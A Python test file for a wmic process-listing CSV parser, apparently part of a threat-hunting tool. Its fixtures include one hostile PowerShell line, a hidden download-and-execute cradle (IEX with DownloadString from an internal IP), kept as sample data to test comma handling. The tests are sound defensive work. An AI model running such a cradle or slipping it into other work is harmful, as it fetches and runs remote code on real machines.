"""wmic process CSV parser: Node + alphabetical columns, unescaped commas, CIM dates, errors.

Fixtures are written by hand in the layout of formats.md section 3.1: a blank first line,
`Node` first and the other columns sorted, values never quoted or escaped (quotes from the
command line appear literally, commas inside it make extra fields), empty fields for
protected processes, `\\r\\r\\n` when piped and UTF-16LE when redirected to a file.
"""

from __future__ import annotations

from datetime import datetime

import pytest

from tests.conftest import assert_same_in_every_encoding, encodings
from wormhunt.sources import wmic
from wormhunt.sources.base import MemorySink
from wormhunt.sources.text import decode

HEADER = "Node,CommandLine,CreationDate,ExecutablePath,Name,ParentProcessId,ProcessId"
SVCHOST = "C:\\Windows\\system32\\svchost.exe"
CHROME = "C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe"
CHROME_CMD = (
    f'"{CHROME}" --type=renderer --field-trial-handle=1628,8223917166689525299,12993788025602838451,131072 '
    "--lang=zh-CN --renderer-client-id=5 /prefetch:1"
)
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
PS_CMD = (
    'powershell.exe -nop -w hidden -c "$w=New-Object Net.WebClient;'
    "IEX $w.DownloadString('http://10.1.4.250/a.ps1'),$x,$y\""
)

FULL = f"""
{HEADER}
WKS-017,,,,System Idle Process,0,0
WKS-017,,,,System,0,4
WKS-017,{SVCHOST} -k netsvcs -p -s Schedule,20231226090112.482113+480,{SVCHOST},svchost.exe,712,1304
WKS-017,"C:\\Windows\\System32\\SecurityHealthSystray.exe" ,20231226091502.100000+480,C:\\Windows\\System32\\SecurityHealthSystray.exe,SecurityHealthSystray.exe,5932,6010
WKS-017,\\??\\C:\\Windows\\system32\\conhost.exe 0x4,20231226170151.500000+480,C:\\Windows\\system32\\conhost.exe,conhost.exe,3120,3144
WKS-017,{CHROME_CMD},20240101003000.000000+480,{CHROME},chrome.exe,2156,12452
WKS-017,{PS_CMD},20231226170200.000000+480,{PS},powershell.exe,3120,4480
"""  # noqa: E501 - wmic rows are long

# Piped live capture: `\r\r\n` line ends (added by encodings()["crcrlf"] / here by hand),
# only fixed-shape columns, US Eastern offset.
NO_CMDLINE = (
    "\r\r\n"
    "Node,CreationDate,Name,ParentProcessId,ProcessId\r\r\n"
    "DESKTOP-N7MI1VB,20260529170728.575104-300,System Idle Process,0,0\r\r\n"
    "DESKTOP-N7MI1VB,20260529170731.120000-300,smss.exe,4,412\r\r\n"
    "DESKTOP-N7MI1VB,20260529235959.000000-300,svchost.exe,688,1096\r\r\n"
)

# `get description,processid,parentprocessid,commandline`: two free-text columns.
TWO_FREE = """
Node,CommandLine,Description,ParentProcessId,ProcessId
WKS-017,,System Idle Process,0,0
WKS-017,C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc,svchost.exe,760,3332
WKS-017,"C:\\Program Files\\App\\app.exe" --handles=1628,8223917166689525299,app.exe,2156,12452
WKS-017,C:\\Windows\\Explorer.EXE,explorer.exe,6108,4756
"""

XSL_ERROR = """C:\\Users\\analyst>wmic process get Name,ProcessId /format:csv
Invalid XSL format (or) file name.
"""


def parse(text: str) -> MemorySink:
    sink = MemorySink()
    wmic.parse(text, sink)
    return sink


def test_full_header_fields() -> None:
    sink = parse(FULL)
    assert sink.skipped == 0
    rows = sink.of("processes")
    assert len(rows) == 7
    assert [r["line"] for r in rows] == list(range(3, 10))
    sched = rows[2]
    assert sched["host"] == "WKS-017"
    assert sched["pid"] == 1304 and sched["ppid"] == 712 and sched["name"] == "svchost.exe"
    assert sched["image_path"] == SVCHOST
    assert sched["command_line"] == f"{SVCHOST} -k netsvcs -p -s Schedule"
    assert sched["created"] == datetime(2023, 12, 26, 1, 1, 12, 482113)  # +480: UTC = local - 8 h
    assert sched["source"] == "wmic"
    assert sched["session_name"] is None and sched["mem_kb"] is None and sched["services"] is None


def test_empty_fields_for_protected_processes() -> None:
    idle, system = parse(FULL).of("processes")[:2]
    assert (idle["name"], idle["pid"], idle["ppid"]) == ("System Idle Process", 0, 0)
    assert (system["name"], system["pid"], system["ppid"]) == ("System", 4, 0)
    for r in (idle, system):
        assert r["command_line"] is None and r["image_path"] is None and r["created"] is None
        assert r["host"] == "WKS-017"


def test_literal_quotes_trailing_space_and_nt_prefix_are_kept() -> None:
    rows = parse(FULL).of("processes")
    assert rows[3]["command_line"] == '"C:\\Windows\\System32\\SecurityHealthSystray.exe" '
    assert rows[4]["command_line"] == "\\??\\C:\\Windows\\system32\\conhost.exe 0x4"
    assert rows[4]["created"] == datetime(2023, 12, 26, 9, 1, 51, 500000)


def test_unquoted_commas_in_command_line_are_rejoined() -> None:
    rows = parse(FULL).of("processes")
    chrome, ps = rows[5], rows[6]
    assert chrome["command_line"] == CHROME_CMD
    assert chrome["image_path"] == CHROME and chrome["name"] == "chrome.exe"
    assert (chrome["pid"], chrome["ppid"]) == (12452, 2156)
    # +480 across midnight and the year boundary.
    assert chrome["created"] == datetime(2023, 12, 31, 16, 30, 0)
    assert ps["command_line"] == PS_CMD and ps["command_line"].count(",") == 2
    assert (ps["pid"], ps["ppid"], ps["image_path"]) == (4480, 3120, PS)


def test_negative_offset_and_crcrlf_without_command_line() -> None:
    sink = parse(NO_CMDLINE)
    assert sink.skipped == 0
    got = [(r["host"], r["name"], r["ppid"], r["pid"], r["created"], r["line"]) for r in sink.of("processes")]
    assert got == [
        ("DESKTOP-N7MI1VB", "System Idle Process", 0, 0, datetime(2026, 5, 29, 22, 7, 28, 575104), 3),
        ("DESKTOP-N7MI1VB", "smss.exe", 4, 412, datetime(2026, 5, 29, 22, 7, 31, 120000), 4),
        # -300: UTC = local + 5 h, into the next day.
        ("DESKTOP-N7MI1VB", "svchost.exe", 688, 1096, datetime(2026, 5, 30, 4, 59, 59), 5),
    ]
    assert all(r["command_line"] is None and r["image_path"] is None for r in sink.of("processes"))


def test_columns_are_mapped_by_header_name() -> None:
    text = "\nNode,Name,ProcessId\nSRV-DB01,sqlservr.exe,3388\n"
    (row,) = parse(text).of("processes")
    assert (row["host"], row["name"], row["pid"], row["ppid"], row["created"]) == (
        "SRV-DB01",
        "sqlservr.exe",
        3388,
        None,
        None,
    )


def test_two_free_text_columns_row_with_commas_is_skipped() -> None:
    sink = parse(TWO_FREE)
    rows = sink.of("processes")
    assert [(r["name"], r["pid"], r["ppid"], r["command_line"]) for r in rows] == [
        ("System Idle Process", 0, 0, None),
        ("svchost.exe", 3332, 760, "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc"),
        ("explorer.exe", 4756, 6108, "C:\\Windows\\Explorer.EXE"),
    ]
    reason = "cannot split row (commas in more than one column, or cut short)"
    assert sink.skip_counts == {reason: 1}
    assert sink.skips[0].line == 5 and "--handles=1628,8223917166689525299" in sink.skips[0].text


def test_invalid_xsl_format_is_counted_as_skipped() -> None:
    for enc, data in encodings(XSL_ERROR).items():
        sink = parse(decode(data).text)
        assert sink.of("processes") == [], enc
        assert sink.skip_counts == {"wmic error message": 1}, enc
        assert sink.skips[0].line == 2 and sink.skips[0].text.startswith("Invalid XSL format"), enc


def test_error_words_inside_a_command_line_do_not_hide_the_process() -> None:
    text = (
        f"\n{HEADER}\n"
        'WKS-017,cmd.exe /c "echo ERROR: disk full",20231226170300.000000+480,'
        "C:\\Windows\\system32\\cmd.exe,cmd.exe,3120,5120\n"
        "WKS-017,python.exe check.py --expect Invalid XML content,20231226170301.000000+480,"
        "C:\\Python311\\python.exe,python.exe,3120,5121\n"
    )
    sink = parse(text)
    assert sink.skipped == 0
    got = [(r["pid"], r["command_line"]) for r in sink.of("processes")]
    assert got == [
        (5120, 'cmd.exe /c "echo ERROR: disk full"'),
        (5121, "python.exe check.py --expect Invalid XML content"),
    ]


def test_truncated_last_line_and_bad_values_are_skipped() -> None:
    text = FULL + "WKS-017,,,,System,0,x4\nWKS-017,C:\\Windows\\notepad.exe,2023122"
    sink = parse(text)
    assert len(sink.of("processes")) == 7
    reason = "cannot split row (commas in more than one column, or cut short)"
    assert sink.skip_counts == {reason: 2}
    assert [s.line for s in sink.skips] == [10, 11]


def test_bad_creation_date_makes_the_row_unsplittable() -> None:
    # A comma in ExecutablePath would shift a non-date into CreationDate: flagged, not guessed.
    text = f"{HEADER}\nWKS-017,a.exe x,20231226170300.000000+480,C:\\Odd,Dir\\a.exe,a.exe,1,2\n"
    sink = parse(text)
    assert sink.of("processes") == []
    assert sink.skipped == 1 and sink.skips[0].line == 2


def test_rows_before_the_header_are_counted() -> None:
    text = "WKS-017,,,,System,0,4\n" + FULL
    sink = parse(text)
    assert len(sink.of("processes")) == 7
    assert sink.skip_counts == {"row before the CSV header": 1} and sink.skips[0].line == 1


def test_checkmk_agent_section_markers() -> None:
    text = (
        "[wmic process]\n"
        "Node,HandleCount,KernelModeTime,Name,PageFileUsage,ProcessId,ThreadCount\n"
        "SRV-FS01,0,388621186093750,System Idle Process,0,0,24\n"
        "SRV-FS01,1227,368895625000,System,132,4,273\n"
        "[wmic process end]\n"
    )
    sink = parse(text)
    assert sink.skipped == 0
    assert [(r["host"], r["name"], r["pid"]) for r in sink.of("processes")] == [
        ("SRV-FS01", "System Idle Process", 0),
        ("SRV-FS01", "System", 4),
    ]


@pytest.mark.parametrize(
    ("cols", "fields", "expected"),
    [
        (
            ["Node", "CommandLine", "ProcessId"],
            ["H", "a", "b", "c", "7"],
            {"Node": "H", "CommandLine": "a,b,c", "ProcessId": "7"},
        ),
        (["Node", "Caption", "CommandLine", "ProcessId"], ["H", "x", "a", "b", "7"], None),
        (["Node", "Name", "ProcessId"], ["H", "a", "b", "7"], None),  # no CommandLine to absorb
        (["Node", "CommandLine", "ProcessId"], ["H", "a"], None),  # cut short
        (["Node", "CreationDate", "ProcessId"], ["H", "2023-12-26", "7"], None),  # not a CIM date
        (["Node", "CommandLine", "ProcessId"], ["H", "", "7"], {"Node": "H", "CommandLine": "", "ProcessId": "7"}),
    ],
)
def test_split_row(cols: list[str], fields: list[str], expected: dict[str, str] | None) -> None:
    assert wmic.split_row(cols, fields) == expected


ALL_FIXTURES = {"full": FULL, "no-cmdline": NO_CMDLINE.replace("\r\r\n", "\n"), "two-free": TWO_FREE}


@pytest.mark.parametrize("name", sorted(ALL_FIXTURES))
def test_every_encoding_is_detected_and_gives_the_same_rows(name: str) -> None:
    assert_same_in_every_encoding(wmic.parse, ALL_FIXTURES[name], "processes", "wmic-process")


def test_utf16le_without_bom_is_recognised() -> None:
    data = encodings(FULL)["utf-16le-nobom"]
    decoded = decode(data)
    assert decoded.encoding.name == "utf-16-le" and decoded.encoding.bom == 0
    assert parse(decoded.text).of("processes")[5]["command_line"] == CHROME_CMD


def test_sniff() -> None:
    assert wmic.sniff(FULL) == pytest.approx(0.95)
    assert wmic.sniff(NO_CMDLINE) == pytest.approx(0.95)
    assert wmic.sniff("Node,Name\nH,x\n") == 0.0  # no ProcessId column
    assert wmic.sniff(XSL_ERROR) == 0.0
